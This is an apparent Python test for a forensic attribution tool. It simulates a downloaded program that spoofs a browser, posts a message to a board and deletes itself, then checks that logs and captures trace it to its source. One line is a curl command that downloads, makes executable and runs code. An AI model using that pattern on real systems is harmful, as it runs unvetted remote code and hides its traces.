"""The remote-control story. A program fetched from a page reads a bulletin board over HTTP,
finds an order there, posts a message as if a browser did, and deletes itself; a browser reads
the same board from the same machine. All that an investigator has is the board's own access
log (address, port, second, request) and a capture taken at the board. `alibi who` and `alibi
match` lead from them to the program, its download, its deletion and its parents, and not to
the browser."""

import hashlib
import os
import shutil
import time

import harness
from conversations import listening
from harness import NetNs, Recorder, act, alibi, connect, equal, json_lines, program, start, that
from packets import Capture

BOARD, VICTIM = "10.94.1.1", "10.94.1.2"
MESSAGE = "I will do something terrible"
ORDER_AFTER = 3  # readings of the board until the order stands there
BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
# What a double click on a download does: fetched, made executable, started.
FETCH_AND_START = 'curl -s -A "$3" -e "http://$1:$2/page" -o "$4" "http://$1:$2/tool" && chmod +x "$4" && "$4" "$1" "$2"'


def head_of(connection):
    data = b""
    while b"\r\n\r\n" not in data:
        data += connection.recv(4096)
    head, _, body = data.partition(b"\r\n\r\n")
    length = [int(line[15:]) for line in head.split(b"\r\n") if line.lower().startswith(b"content-length:")]
    while length and len(body) < length[0]:
        body += connection.recv(4096)
    return head.split(b"\r\n")[0].decode(), body.decode()


def board(channel, tool):
    """Serves until it is told to end; tells its access log: address, port, second, request, body."""
    server, port = listening(BOARD)
    channel.tell(port)
    log, readings = [], 0
    while not log or log[-1][3] != "GET /end HTTP/1.1":
        connection, peer = server.accept()
        request, body = head_of(connection)
        log.append([peer[0], peer[1], int(time.time()), request, body])
        readings += request.startswith("GET /board")
        answer = b"welcome\n" + (f"order: {MESSAGE}\n".encode() if readings > ORDER_AFTER else b"")
        if request.startswith("GET /tool"):
            with open(tool, "rb") as f:
                answer = f.read()
        connection.sendall(b"HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: %d\r\n\r\n" % len(answer) + answer)
        connection.close()
    channel.tell(log)


def browse(victim, port, path):
    """A browser reads a page; it has the same User-Agent as the program pretends to have."""
    return start(["curl", "-s", "-A", BROWSER, f"http://{BOARD}:{port}/{path}"], netns=victim)


def live_through_it(directory, recorder, tool):
    """The story; returns the board's log, its port, the shell that fetched the program, and browsers."""
    outside, victim = NetNs("board"), NetNs("victim")
    device, _ = connect(outside, f"{BOARD}/24", victim, f"{VICTIM}/24")
    browsers = []
    with recorder:
        wire = Capture(outside, device, directory.path / "board.pcap")
        server = act(board, tool, netns=outside)
        port = server.hear()
        shell = start(["sh", "-c", FETCH_AND_START, "sh", BOARD, str(port), BROWSER, str(directory.path / "greeting")],
                      netns=victim)
        for _ in range(4):
            browsers.append(browse(victim, port, "board"))
            browsers[-1].output()
        equal(shell.wait(), 5, "exit status of the program")
        browsers.append(browse(victim, port, "end"))
        browsers[-1].wait()
        access = server.hear()
        server.finish()
        wire.stop()
    return access, port, shell, browsers


def lead_from(log_directory, entry, port):
    """What `who` says to one line of the access log: the flow as its sender saw it."""
    address, sender_port, second = entry[:3]
    at = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(second))
    told = json_lines(alibi("who", "--dir", log_directory, f"{address}:{sender_port}", "--at", at, "--json",
                            check=0).stdout)
    sent = [t for t in told if t["flow"]["direction"] == "out"]
    that(len(sent) == 1, f"who {address}:{sender_port} says {told}")
    equal(sent[0]["flow"]["remote"]["port"], port, "port of the board")
    return sent[0]


def requests(log, process):
    return [(r.extra["method"], r.name) for r in log.records
            if r.kind == "http" and r.direction == "out" and r.process == process]


def test(directory):
    os.chmod(directory.path, 0o755)
    tool = str(directory.path / "tool")
    shutil.copy(program("remote_control"), tool)
    greeting = str(directory.path / "greeting")
    recorder = Recorder(directory)
    access, port, shell, browsers = live_through_it(directory, recorder, tool)
    that(not os.path.exists(greeting), "the program did not delete itself")
    posts = [entry for entry in access if entry[3].startswith("POST /post")]
    equal([p[4] for p in posts], [MESSAGE], "what was posted")

    log = recorder.log()
    browser_keys = {log.key_of(b) for b in browsers}
    answer = lead_from(directory.log, posts[0], port)
    culprit = answer["process"]
    that(culprit["id"] not in browser_keys, f"the browser is blamed: {culprit}")
    equal((culprit["exe"], culprit["args"]), (greeting, [greeting, BOARD, str(port)]), "the program")
    equal(answer["grade"], "proven", "grade")
    equal(culprit["sha256"], hashlib.sha256(open(tool, "rb").read()).hexdigest(), "SHA-256 of the program")
    equal(answer["ancestors"][0]["id"], log.key_of(shell), "its parent")

    url = f"http://{BOARD}:{port}"
    made = requests(log, culprit["id"])
    equal(made.count(("POST", f"{url}/post")), 1, f"posts of the program, which asked for {made}")
    that(made.count(("GET", f"{url}/board")) >= 2, f"readings of the board: {made}")
    for key in browser_keys:
        that(all(method == "GET" for method, _ in requests(log, key)), "a browser is said to have posted")

    fetched = log.one(kind="http", name=f"{url}/tool", direction="out")
    equal(fetched.parent, log.key_of(shell), "parent of the download")
    equal(fetched.extra["referer"], f"{url}/page", "page that led to the download")
    deleted = log.one(kind="file_delete", name=greeting)
    equal((deleted.process, deleted.result), (culprit["id"], "deleted"), "deletion")

    # Every other line of the access log leads to whoever asked, too.
    for entry in access:
        process = lead_from(directory.log, entry, port)["process"]
        method, path = entry[3].split()[:2]
        that((method, url + path) in requests(log, process["id"]), f"{entry} is said to be of {process}")

    # The capture says the same of each connection.
    matched = json_lines(alibi("match", "--dir", directory.log, directory.path / "board.pcap", "--json",
                               check=0).stdout)
    by_port = {m["capture_flow"]["sport"]: m for m in matched if m["capture_flow"]["dport"] == port}
    equal(sorted(by_port), sorted(entry[1] for entry in access), "connections in the capture")
    for entry in access:
        match = by_port[entry[1]]
        equal(match["verdict"], "ours", f"verdict on {entry}")
        equal(match["process"]["id"], lead_from(directory.log, entry, port)["process"]["id"], f"process of {entry}")


harness.main(test)
